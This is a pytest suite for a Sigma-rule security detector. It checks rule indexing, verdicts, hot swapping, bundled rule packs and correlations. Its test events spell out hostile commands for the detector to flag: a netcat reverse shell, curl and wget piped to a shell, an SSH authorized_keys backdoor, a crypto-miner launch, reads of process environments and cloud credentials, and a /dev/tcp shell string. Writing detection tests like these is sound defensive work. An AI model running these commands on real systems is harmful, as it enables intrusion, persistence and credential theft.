"""The ``sigma`` detector: indexing, prefilter, verdicts, swap, correlations, config."""

from __future__ import annotations

import random
from pathlib import Path
from typing import Any

import pytest
import yaml
from support.corpus import sigmahq_linux

from coi_watch.errors import RuleError
from coi_watch.events import (
    EVENT_TYPES,
    Ancestor,
    DnsQuery,
    Event,
    FileAccess,
    NetConnect,
    ProcExec,
    ProcExit,
)
from coi_watch.protocols import Detector
from coi_watch.rules.engine import RuleEngine, RuleSet
from coi_watch.rules.load import load_text
from coi_watch.verdicts import Severity


def doc(rid: str, detection: dict[str, Any], level: str = "high",
        category: str = "process_creation", **top: Any) -> dict[str, Any]:
    return {"title": f"rule {rid[:4]}", "id": rid, "level": level,
            "logsource": {"category": category, "product": "linux"}, "detection": detection,
            **top}


def ruleset(*docs: dict[str, Any], prefilter: bool = True) -> RuleSet:
    res = load_text(yaml.safe_dump_all(docs, sort_keys=False))
    assert not res.errors, res.errors
    return RuleSet.from_load(res, prefilter=prefilter)


def proc(*argv: str, exe: str = "/usr/bin/x", container: str = "c1", pid: int = 5,
         ts: int = 1) -> ProcExec:
    return ProcExec(ts_ns=ts, wall_ns=ts, container=container, pid=pid, ppid=1,
                    uid=1_000_000, exe=exe, argv=argv, cwd="/w",
                    ancestry=(Ancestor(pid=1, exe="/bin/bash", cmdline="bash"),))


NC = doc("11111111-1111-4111-8111-111111111111",
         {"sel": {"Image|endswith": "/nc", "CommandLine|contains": " -e "}, "condition": "sel"},
         tags=["attack.execution", "attack.t1059.004"], **{"coi.action": "kill"})
DNS = doc("22222222-2222-4222-8222-222222222222",
          {"sel": {"query|endswith": ".evil.example"}, "condition": "sel"}, level="low",
          category="dns", **{"coi.mode": "monitor"})


def test_is_a_detector_for_every_kind() -> None:
    eng = RuleEngine(ruleset=ruleset(NC))
    assert isinstance(eng, Detector)
    assert eng.name == "sigma"
    assert eng.consumes == frozenset(EVENT_TYPES)


def test_index_by_kind() -> None:
    rs = ruleset(NC, DNS)
    assert set(rs.by_kind) == {"proc.exec", "net.dns"}
    assert [e[0].id for e in rs.by_kind["proc.exec"].entries] == [NC["id"]]
    assert RuleEngine(ruleset=rs).feed(ProcExit(ts_ns=1, wall_ns=1, container="c", pid=1),
                                       1) == []


def test_verdict() -> None:
    eng = RuleEngine(ruleset=ruleset(NC))
    (v,) = eng.feed(proc("nc", "-e", "/bin/sh", "h", "1", exe="/bin/busybox"), 1)
    assert v.detector == f"sigma:{NC['id']}"
    assert (v.title, v.severity, v.action, v.mode) == ("rule 1111", Severity.HIGH, "kill",
                                                       "enforce")
    assert v.mitre == ("T1059.004",)
    assert (v.container, v.pid, v.event_kind, v.ts_ns) == ("c1", 5, "proc.exec", 1)
    assert v.evidence["rule"] == NC["id"]
    assert v.evidence["file"] == "<text>:1"
    assert v.evidence["fields"] == {"Image": "/bin/nc", "CommandLine": "nc -e /bin/sh h 1"}


def test_severity_from_level() -> None:
    rid = "33333333-3333-4333-8333-33333333333"
    levels = {"informational": Severity.INFO, "low": Severity.WARNING,
              "medium": Severity.WARNING, "high": Severity.HIGH,
              "critical": Severity.CRITICAL}
    docs = [doc(f"{rid}{i}", {"s": {"CommandLine": "go"}, "condition": "s"}, level=lvl)
            for i, lvl in enumerate(levels)]
    verdicts = RuleEngine(ruleset=ruleset(*docs)).feed(proc("go"), 1)
    assert [v.severity for v in verdicts] == list(levels.values())


def test_dedup_key_ignores_pid_but_not_container_or_command() -> None:
    eng = RuleEngine(ruleset=ruleset(NC))
    key = eng.feed(proc("nc", "-e", "sh", exe="/bin/nc", pid=5), 1)[0].dedup_key
    assert key == eng.feed(proc("nc", "-e", "sh", exe="/bin/nc", pid=99), 2)[0].dedup_key
    assert key != eng.feed(proc("nc", "-e", "sh", exe="/bin/nc", container="c2"), 3)[0] \
        .dedup_key
    assert key != eng.feed(proc("nc", "-e", "bash", exe="/bin/nc"), 4)[0].dedup_key
    assert key.startswith(f"sigma:{NC['id']}:c1:")


def test_monitor_mode_and_dns() -> None:
    eng = RuleEngine(ruleset=ruleset(DNS))
    (v,) = eng.feed(DnsQuery(ts_ns=1, wall_ns=1, container="c", family=4, proto="udp",
                             src="a", dst="b", qname="x.evil.example"), 1)
    assert (v.mode, v.severity, v.pid) == ("monitor", Severity.WARNING, 0)


def test_swap_takes_effect_on_the_next_event() -> None:
    eng = RuleEngine(ruleset=ruleset(NC))
    ev = proc("nc", "-e", "sh", exe="/bin/nc")
    assert eng.feed(ev, 1)
    old = eng.ruleset
    eng.swap(ruleset(DNS))
    assert eng.feed(ev, 2) == []
    assert eng.ruleset is not old


def test_config_strict_and_packs(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yml"
    bad.write_text(yaml.safe_dump(doc("44444444-4444-4444-8444-444444444444",
                                      {"s": {"Nope": 1}, "condition": "s"})))
    good = tmp_path / "good.yml"
    good.write_text(yaml.safe_dump(NC))
    with pytest.raises(RuleError) as exc:
        RuleEngine({"rules": [str(tmp_path)]})
    assert "bad.yml" in str(exc.value) and "E003" in str(exc.value)
    eng = RuleEngine({"rules": [str(tmp_path)], "strict": False, "packs": False})
    assert [r.id for r in eng.ruleset.rules] == [NC["id"]]
    assert [d.code for d in eng.ruleset.errors] == ["E003"]
    with_packs = RuleEngine({"rules": [str(good)]})
    assert len(with_packs.ruleset.rules) > 1


def test_packs_match_what_they_promise() -> None:
    eng = RuleEngine()
    cases: list[tuple[Event, str]] = [
        (proc("bash", "-c", "curl -fsSL http://198.18.0.9/x.sh | sh"), "Download Piped"),
        (proc("sh", "-c", 'sh -c "$(wget -qO- http://x/i.sh)"'), "Download Piped"),
        (proc("cat", "/proc/1/environ", exe="/bin/busybox"), "Process Environment"),
        (proc("nmap", "-sS", "10.0.0.0/24", exe="/usr/bin/nmap"), "Network Scanner"),
        (proc("./xmrig", "-o", "stratum+tcp://pool:3333", exe="/tmp/xmrig"), "Crypto Miner"),
        (proc("sh", "-c", "echo ssh-ed25519 AAA >> /root/.ssh/authorized_keys"),
         "SSH Authorized Keys Changed"),
        (FileAccess(ts_ns=1, wall_ns=1, container="c", pid=3, op="close_write",
                    path="/root/.ssh/authorized_keys"), "SSH Authorized Keys File"),
        (FileAccess(ts_ns=1, wall_ns=1, container="c", pid=3, op="open",
                    path="/home/a/.aws/credentials"), "Cloud Or Registry"),
        (DnsQuery(ts_ns=1, wall_ns=1, container="c", family=4, proto="udp", src="a", dst="b",
                  qname="pool.supportxmr.com"), "Crypto Mining Pool"),
    ]
    for ev, title in cases:
        titles = [v.title for v in eng.feed(ev, 1)]
        assert any(t.startswith(title) for t in titles), (ev, titles)
    for benign in (proc("git", "status"), proc("curl", "-o", "x.tgz", "https://x"),
                   proc("cat", "README.md", exe="/bin/busybox"),
                   FileAccess(ts_ns=1, wall_ns=1, container="c", pid=3, op="close_write",
                              path="/root/.aws/credentials")):
        assert eng.feed(benign, 1) == [], benign


# ---------------------------------------------------------------- prefilter equivalence


def _random_events(n: int, seed: int) -> list[Event]:
    rnd = random.Random(seed)
    words = ["nc", "-e", "/bin/sh", "curl", "wget", "|", "sh", "bash", "-c", "python3",
             "import", "pty", "spawn", "socket", "base64", "-d", "/tmp/", "chmod", "+x",
             "/etc/shadow", "cat", "rm", "-rf", "crontab", "-l", "find", "-exec", "nohup",
             "id", "whoami", "uname", "-a", "tee", "/dev/tcp/10.0.0.1/4444", "perl", "ruby"]
    exes = ["/bin/busybox", "/usr/bin/python3.11", "/usr/bin/bash", "/usr/bin/curl",
            "/usr/bin/nc", "/usr/bin/perl", "/tmp/x", "/usr/bin/find", "/usr/bin/crontab"]
    out: list[Event] = []
    for i in range(n):
        r = rnd.randrange(4)
        if r < 2:
            argv = tuple(rnd.choice(words) for _ in range(rnd.randrange(1, 7)))
            out.append(ProcExec(ts_ns=i, wall_ns=i, container="c", pid=i, exe=rnd.choice(exes),
                                argv=argv, cwd=rnd.choice(["/tmp", "/root", "/dev/shm"]),
                                ancestry=(Ancestor(pid=1, exe=rnd.choice(exes),
                                                   cmdline=" ".join(rnd.sample(words, 3))),)))
        elif r == 2:
            out.append(NetConnect(ts_ns=i, wall_ns=i, container="c", family=4, proto="tcp",
                                  src="10.0.0.2", dst=rnd.choice(["127.0.0.1", "198.18.0.1"]),
                                  dport=rnd.choice([22, 443, 4444, 2222])))
        else:
            out.append(FileAccess(ts_ns=i, wall_ns=i, container="c", pid=i,
                                  op=rnd.choice(["open", "close_write"]),
                                  path=rnd.choice(["/etc/cron.d/x", "/tmp/rootlog", "/w/a",
                                                   "/etc/sudoers.d/y"])))
    return out


def test_prefilter_never_changes_a_verdict() -> None:
    corpus = sigmahq_linux()
    fast = RuleSet.load([corpus])
    slow = RuleSet.load([corpus], prefilter=False)
    assert any(idx.scans for idx in fast.by_kind.values())
    matched = 0
    for ev in _random_events(3000, seed=11):
        a = [r.id for r, _ in fast.matches(ev)]
        b = [r.id for r, _ in slow.matches(ev)]
        assert a == b, ev
        c = [r.id for r in fast.rules if r.match(ev)]
        assert sorted(a) == sorted(c), ev
        matched += bool(a)
    assert matched > 50  # the mix does hit rules


# ---------------------------------------------------------------- correlations


def test_correlation_fed_by_base_matches() -> None:
    base = doc("55555555-5555-4555-8555-555555555555",
               {"s": {"Image|endswith": "/whoami"}, "condition": "s"}, name="recon_whoami")
    corr = {"title": "whoami burst", "id": "66666666-6666-4666-8666-666666666666",
            "level": "critical",
            "correlation": {"type": "event_count", "rules": ["recon_whoami"],
                            "group-by": ["Container"], "timespan": "1m",
                            "condition": {"gte": 3}}}
    rs = ruleset(base, corr)
    assert len(rs.correlations) == 1
    eng = RuleEngine(ruleset=rs)
    out = []
    for t in range(3):
        out += eng.feed(proc("whoami", exe="/usr/bin/whoami", ts=t * 1_000_000_000),
                        t * 1_000_000_000)
    detectors = [v.detector for v in out]
    assert detectors == ["sigma:66666666-6666-4666-8666-666666666666"]  # base suppressed
    eng.swap(rs)  # fresh state: the count starts again
    assert eng.feed(proc("whoami", exe="/usr/bin/whoami", ts=9), 9) == []


def test_placeholders_from_a_file(tmp_path: Path) -> None:
    rules = tmp_path / "r.yml"
    rules.write_text(yaml.safe_dump(doc("77777777-7777-4777-8777-777777777777",
                                        {"s": {"Image|expand": "%tools%"}, "condition": "s"})))
    lists = tmp_path / "placeholders.yml"
    lists.write_text("tools: [/usr/bin/socat, '*/ncat']\n")
    eng = RuleEngine({"rules": [str(rules)], "packs": False, "placeholders": str(lists)})
    assert eng.feed(proc("ncat", exe="/opt/bin/ncat"), 1)
    assert not eng.feed(proc("cat", exe="/bin/cat"), 1)


def test_public_names() -> None:
    import coi_watch.rules as pkg

    for name in pkg.__all__:
        assert getattr(pkg, name) is not None, name
